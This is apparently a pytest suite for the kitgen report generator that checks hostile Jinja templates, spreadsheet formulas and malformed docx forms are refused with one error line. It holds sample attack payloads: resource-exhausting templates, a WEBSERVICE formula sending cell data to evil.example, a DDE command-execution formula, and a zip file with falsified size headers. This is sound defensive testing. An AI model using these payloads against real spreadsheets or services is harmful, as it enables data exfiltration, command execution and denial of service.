"""Hostile templates and forms: hard limits on rendering, one Error line for every template mistake, inert
spreadsheets, sizes checked while inflating, nothing unstorable or oversized reaches the project file."""
from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document
from openpyxl import load_workbook

from kitgen.cli.commands import cli
from kitgen.infra import limits
from kitgen.jobs.build import build
from kitgen.jobs.harvest import harvest
from kitgen.project import load_project

from .conftest import ROOT, SAMPLE_FR
from .helpers import add_report_row, docx_text, fill_row, findings_table, no_hang, word_template

EXHAUSTING = [
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{{ 2 ** 64 ** 64 }}",
    "{{ lipsum(10**7) }}",
    "{{ 'x'.ljust(10**10) }}",
    "{{ '{0:>1000000000}'.format(1) }}",
    "{{ '%01000000000d' % 1 }}",
    "{{ ('x' * 100000).replace('x', 'x' * 100000) }}",
    "{{ ('x' * 1000)|replace('x', 'y' * 100000) }}",
    "{{ 'a'|center(10**10) }}",
    "{{ ('ab' * 50000)|wordwrap(10**9) }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
    "{% set s = namespace(x='x') %}{% for i in range(60) %}{% set s.x = s.x ~ s.x %}{% endfor %}{{ s.x|length }}",
    "{{ 'x' * 200000 }}",
]
MISTAKES = [  # the French sample: its messages are French (Python's own words only as a detail)
    ("{% include 'other.docx' %}", "un modèle tient dans un seul fichier"),
    ("{% import 'macros.docx' as m %}", "un modèle tient dans un seul fichier"),
    ("{% extends 'base.docx' %}", "un modèle tient dans un seul fichier"),
    ("{% from 'macros.docx' import m %}", "un modèle tient dans un seul fichier"),
    ("{{ 1/0 }}", "ZeroDivisionError"),
    ("{{ 'a' + 1 }}", "TypeError"),
    ("{{ 'x'.encode('rot13') }}", "modèles : `.encode()` n'est pas disponible dans les modèles"),
    ("{{ 'a b'|wordwrap(0) }}", "modèles : `|wordwrap` demande une largeur positive"),
    ("{{ '%d' % 'x' }}", "TypeError"),
    ("{{ range(1, 2, 0) }}", "ValueError"),
    ("{{ " + "9" * 5000 + " }}", "ValueError"),
    ("{{ audit.titel }}", "variable inconnue 'titel'"),
    ("{% for x in %}", "erreur de syntaxe dans le modèle"),
]


@pytest.fixture
def fast_limits(monkeypatch):
    """The smallest budget a worker can have (its CPU limit is in whole seconds): a runaway template is stopped by
    the limit whatever the budget, and each one here burns a core until it is."""
    monkeypatch.setattr(limits, "SECONDS", 1.0)


@pytest.mark.parametrize("payload", EXHAUSTING)
def test_exhausting_templates_stop_fast_with_one_line(tmp_path, fast_limits, payload):
    folder = word_template(tmp_path / "tpl", payload)
    with no_hang():  # the limits stop it (the error line says which); this only turns a hang into a failure
        result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--audit", "AUD-2026-01",
                                          "--templates", str(folder), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: audit-report.docx: "), result.stderr
    assert not list((tmp_path / "out").glob("*.docx")) if (tmp_path / "out").exists() else True


@pytest.mark.parametrize("payload,message", MISTAKES)
def test_every_template_mistake_is_one_error_line(tmp_path, payload, message):
    folder = word_template(tmp_path / "tpl", payload)
    result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--audit", "AUD-2026-01",
                                      "--templates", str(folder), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: audit-report.docx: ") and message in lines[0], result.stderr
    check = CliRunner().invoke(cli, ["templates", "check", str(folder)])
    assert check.exit_code == 1 and "audit-report.docx" in check.stderr and "Traceback" not in check.stderr


def test_the_machine_is_unharmed(tmp_path):
    """The worst payloads, under a 2 GB address-space limit for the whole command: refused, nothing else."""
    folder = word_template(tmp_path / "tpl", EXHAUSTING[3] + EXHAUSTING[10])
    code = f"""
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (2_000_000_000, 2_000_000_000))
from click.testing import CliRunner
from kitgen.cli.commands import cli
r = CliRunner().invoke(cli, ["build", {str(SAMPLE_FR)!r}, "audit-report", "--templates", {str(folder)!r},
                             "-o", {str(tmp_path / 'out')!r}])
print(r.exit_code, repr(r.stderr))
"""
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert out.stdout.startswith("1 ") and "Error: audit-report.docx" in out.stdout, out.stdout + out.stderr


def formula_template(folder: Path, formula: str) -> Path:
    from kitgen.jobs.templates import shipped_dir

    folder.mkdir(parents=True, exist_ok=True)
    wb = load_workbook(shipped_dir() / "fr" / "action-plan.xlsx")
    wb["Synthèse"]["H40"] = formula
    wb.save(folder / "action-plan.xlsx")
    return folder


@pytest.mark.parametrize("formula,why", [
    ('=WEBSERVICE("http://evil.example/?"&A1)', "WEBSERVICE"),
    ("=cmd|' /C calc'!A0", "DDE"),
    ('=HYPERLINK("http://evil.example","click")', "HYPERLINK"),
    ("=[1]Sheet1!A1", "autre classeur"),
])
def test_spreadsheet_templates_hold_only_pure_formulas(tmp_path, formula, why):
    folder = formula_template(tmp_path / "tpl", formula)
    result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "action-plan", "--templates", str(folder),
                                      "-o", str(tmp_path / "out")])
    assert result.exit_code == 1 and "action-plan.xlsx: Synthèse!H40: formule refusée" in result.stderr, result.stderr
    assert why in result.stderr
    check = CliRunner().invoke(cli, ["templates", "check", str(folder)])
    assert check.exit_code == 1 and "Synthèse!H40" in check.stderr


def test_pure_formulas_are_fine(tmp_path):
    folder = formula_template(tmp_path / "tpl", "=SUM(B3:B9)+IF(C3>0,1,0)")
    result = build(load_project(SAMPLE_FR), ["action-plan"], out_dir=tmp_path / "out", templates=folder)
    sheet = load_workbook(result.written[0])["Synthèse"]
    assert sheet["H40"].value == "=SUM(B3:B9)+IF(C3>0,1,0)"  # kept as the template's formula, not refused or inerted


def test_a_worker_killed_by_the_system_says_so():
    """The kernel's out-of-memory killer sends SIGKILL: said as a kill by the system, not as time (the CPU limit's
    own SIGKILL comes after the child used its CPU time); another signal (a crash) and a worker quitting without an
    answer are each said as what they are."""
    import os
    import signal

    with pytest.raises(limits.LimitExceeded) as caught:
        limits.run_limited(lambda: os.kill(os.getpid(), signal.SIGKILL))
    assert caught.value.what == "killed"
    assert "killed by the system (SIGKILL" in caught.value.problem("t.docx").render()
    with pytest.raises(limits.LimitExceeded) as caught:
        # SIGUSR1 ends a process as a crash's signal does, without pytest's fault handler printing a stack dump
        limits.run_limited(lambda: os.kill(os.getpid(), signal.SIGUSR1))
    assert (caught.value.what, caught.value.detail) == ("signal", "SIGUSR1")
    with pytest.raises(limits.LimitExceeded) as caught:
        limits.run_limited(lambda: os._exit(3))
    assert (caught.value.what, caught.value.detail) == ("exited", 3)
    assert caught.value.problem("t.docx").render() == (
        "t.docx: rendering stopped: its worker process ended without answering (exit status 3)")


def test_a_runaway_worker_is_reported_as_time(fast_limits):
    def spin() -> None:
        while True:
            pass

    with pytest.raises(limits.LimitExceeded) as caught:
        limits.run_limited(spin)
    assert caught.value.what == "time"


# -- hostile forms ----------------------------------------------------------------------------------------------


def rezip(src: Path, dst: Path, **replace: bytes) -> Path:
    with zipfile.ZipFile(src) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    parts.update({k.replace("__", "/").replace("_xml", ".xml"): v for k, v in replace.items()})
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, d in parts.items():
            zf.writestr(n, d)
    return dst


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    import shutil

    base = tmp_path_factory.mktemp("hostile-forms")
    shutil.copytree(SAMPLE_FR.parent, base / "fr")
    build(load_project(base / "fr" / "projet.yaml"), ["audit-report"], out_dir=base / "out")
    return base / "fr" / "projet.yaml", base / "out" / "audit-report-AUD-2026-01.docx"


def harvest_one_line(project: Path, form: Path, *options: str) -> str:
    before = project.read_bytes()
    with no_hang():
        result = CliRunner().invoke(cli, ["harvest", str(project), str(form), *options])
    assert result.exit_code == 1, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert project.read_bytes() == before
    return lines[0]


def test_lying_zip_headers(built, tmp_path):
    project, report = built
    big = tmp_path / "big.docx"
    with zipfile.ZipFile(report) as src, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED,
                                                                     compresslevel=1) as dst:  # fastest to make
        for name in src.namelist():
            if name != "word/document.xml":
                dst.writestr(name, src.read(name))
        with dst.open("word/document.xml", "w") as part:
            for _ in range(256):
                part.write(b" " * (1024 * 1024))   # 256 MB of spaces
    data = bytearray(big.read_bytes())
    patched = 0
    for signature, header, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        pos = -1
        while (pos := data.find(signature, pos + 1)) != -1:   # declare 30 KB, in the local header and the directory
            if data[pos + header:pos + header + 17] == b"word/document.xml":
                data[pos + size_at:pos + size_at + 4] = (30 * 1024).to_bytes(4, "little")
                patched += 1
    assert patched == 2
    big.write_bytes(bytes(data))
    line = harvest_one_line(project, big, "--lang", "en")
    assert "big.docx" in line and "damaged zip package" in line


def test_a_cell_spanning_two_billion_columns(built, tmp_path):
    project, report = built
    with zipfile.ZipFile(report) as zf:
        xml = zf.read("word/document.xml").decode()
    xml = xml.replace("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="2000000000"/>', 1)
    form = rezip(report, tmp_path / "span.docx", word__document_xml=xml.encode())
    from kitgen.ooxml.docx_read import MAX_SPAN, grid_span
    from kitgen.ooxml.safety import parse_xml

    cell = parse_xml(b'<w:tc xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:tcPr>'
                     b'<w:gridSpan w:val="2000000000"/></w:tcPr></w:tc>')
    assert grid_span(cell) == MAX_SPAN  # the span is bounded before anything is sized by it
    result = harvest(load_project(project), [form], dry_run=True)
    assert result.files == [str(form)] and not result.errors  # and the form reads like any other


def test_a_hundred_thousand_added_rows(built, tmp_path):
    project, report = built
    with zipfile.ZipFile(report) as zf:
        xml = zf.read("word/document.xml").decode()
    row = ('<w:tr><w:tc><w:p/></w:tc><w:tc><w:p><w:r><w:t>6.6</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc><w:tc><w:p>'
           '<w:r><w:t>Point sensible</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
           '<w:tc><w:p/></w:tc></w:tr>')
    xml = xml.replace("</w:tbl>", row * 100_000 + "</w:tbl>", 1)
    form = rezip(report, tmp_path / "rows.docx", word__document_xml=xml.encode())
    assert "more than a kitgen form holds" in harvest_one_line(project, form, "--lang", "en")


def test_huge_statements_never_reach_the_project(built, tmp_path):
    project, report = built
    form = add_report_row(report, tmp_path / "huge.docx", "x" * 100_000)   # three times what a cell holds
    line = harvest_one_line(project, form)
    assert "plus que les 32767 que contient une cellule" in line and "huge.docx" in line   # a French project


def test_a_harvest_that_would_outgrow_the_load_limit_is_refused(built, tmp_path, monkeypatch):
    from kitgen.project import load as load_module
    from kitgen.project import save as save_module

    project, report = built
    doc = Document(str(report))
    t = findings_table(doc)
    for i in range(12):   # 360 KB of findings, each within what a cell holds: past the limit set below
        fill_row(t, t.add_row(), {"Article": "6.6", "Gravité": "Point sensible", "Constat": f"Constat {i} " + "x" * 30000})
    doc.save(str(tmp_path / "many.docx"))
    monkeypatch.setattr(save_module, "MAX_PROJECT_BYTES", 300_000)
    monkeypatch.setattr(load_module, "MAX_PROJECT_BYTES", 300_000)
    before = project.read_bytes()
    result = CliRunner().invoke(cli, ["harvest", str(project), str(tmp_path / "many.docx")])
    assert result.exit_code == 1 and "il atteindrait 0,4 Mo, plus que les 0,3 Mo" in result.stderr, result.stderr
    assert project.read_bytes() == before


def test_values_are_never_read_as_terminal_markup(built, tmp_path):
    import shutil

    project, report = built
    work = tmp_path / "p"
    shutil.copytree(project.parent, work)
    form = add_report_row(report, tmp_path / "markup.docx", "[/] [bold red]not markup[/bold red] [link=x]")
    result = CliRunner().invoke(cli, ["harvest", str(work / "projet.yaml"), str(form)])
    assert result.exit_code == 0, result.output
    assert "[/] [bold red]not markup" in result.output


def test_a_worker_does_the_files_it_is_handed_each_under_its_own_limits(fast_limits):
    """A worker renders the files it is handed in turn: each has its own CPU budget from when it starts (not the
    worker's from its start, nor the sum of its files'), and a runaway file stops its worker without costing the
    files after it, which a fresh worker does."""
    def piece() -> float:
        import resource

        start = limits._cpu_used()
        while limits._cpu_used() - start < 0.6:   # more than half the budget: two in a row outlive one budget
            pass
        return resource.getrlimit(resource.RLIMIT_CPU)[0] - start   # what it was allowed from its start

    def spin() -> None:
        while True:
            pass

    results = limits.run_many([piece, piece, spin, lambda: "after"], parallel=1)
    budget = limits.cpu_seconds(limits.SECONDS)
    assert all(budget - 0.5 <= allowed <= budget + 0.5 for allowed in results[:2]), results
    assert isinstance(results[2], limits.LimitExceeded) and results[2].what == "time"
    assert results[3] == "after"


def test_a_template_running_away_on_every_audit_stops_the_build_with_one_line(tmp_path, fast_limits):
    folder = word_template(tmp_path / "tpl", EXHAUSTING[0])
    with no_hang():
        result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--templates", str(folder),
                                          "-o", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: audit-report.docx: génération interrompue : elle a pris plus de temps "
                                    "qu'un modèle n'en a droit"), result.stderr   # said in the French sample's words
    assert len(result.stderr.splitlines()) == 1


def test_a_file_failing_in_its_batch_stops_the_build(tmp_path):
    """The second audit's report fails (a mistake only its data reaches); the batch's first file rendered; nothing
    is written and the line names the template."""
    folder = word_template(tmp_path / "tpl", "{{ 1 / 0 if audit.id.startswith('PRE') else audit.id }}")
    result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--templates", str(folder),
                                      "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    # the French sample: kitgen's words in French, Python's own message as the detail
    assert result.stderr == "Error: audit-report.docx: erreur dans le modèle : ZeroDivisionError : division by zero\n"
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.docx"))


def test_only_kitgen_s_own_templates_are_compiled_outside_the_workers(tmp_path, monkeypatch):
    """A template rendered a second time by one process is compiled in that process before the workers fork, where
    no limit holds: never a user's template (its compiling is the workers' to bound), kitgen's own from its second
    build on, with the same documents as the workers compiling them."""
    from kitgen.forms import kind
    from kitgen.ooxml import docx_render

    compiled: list[str] = []
    real = docx_render.compile_parts
    monkeypatch.setattr(docx_render, "compile_parts", lambda path: (compiled.append(path.name), real(path)))
    monkeypatch.setattr(kind, "_rendered_here", set())
    monkeypatch.setattr(kind, "_compiled_here", set())
    project = load_project(SAMPLE_FR)
    mine = word_template(tmp_path / "mine", "{{ audit.id }}")
    for run in range(2):
        build(project, ["audit-report"], out_dir=tmp_path / f"mine{run}", templates=mine)
    assert compiled == []   # a user's template: compiled by each worker, under the limits, every time
    first = build(project, ["audit-report"], out_dir=tmp_path / "own0")
    assert compiled == []   # the first time, the workers compile kitgen's own too
    second = build(project, ["audit-report"], out_dir=tmp_path / "own1")
    assert compiled == ["audit-report.docx"]
    assert [docx_text(p) for p in second.written] == [docx_text(p) for p in first.written]


def test_after_a_failure_the_works_after_it_are_stopped_and_those_before_it_done(fast_limits):
    """run_many's stop_after (what a build uses): a failed work makes the later ones unneeded — stopped while
    running, or never started — while the earlier ones are still all done (the first failure in order is the one
    reported, and an earlier work may fail too)."""
    import time

    def spin() -> None:
        while True:
            pass

    def fail_soon() -> None:
        time.sleep(0.2)
        raise ValueError("no")

    def first() -> str:
        time.sleep(0.3)
        return "first"

    def failed(result: object) -> bool:
        return isinstance(result, BaseException)

    results = limits.run_many([fail_soon, spin, lambda: "never"], parallel=2, stop_after=failed)
    assert isinstance(results[0], limits.ChildFailed) and results[1:] == [None, None]   # not run to their limit
    results = limits.run_many([first, fail_soon, spin], parallel=2, stop_after=failed)
    assert results[0] == "first" and isinstance(results[1], limits.ChildFailed) and results[2] is None
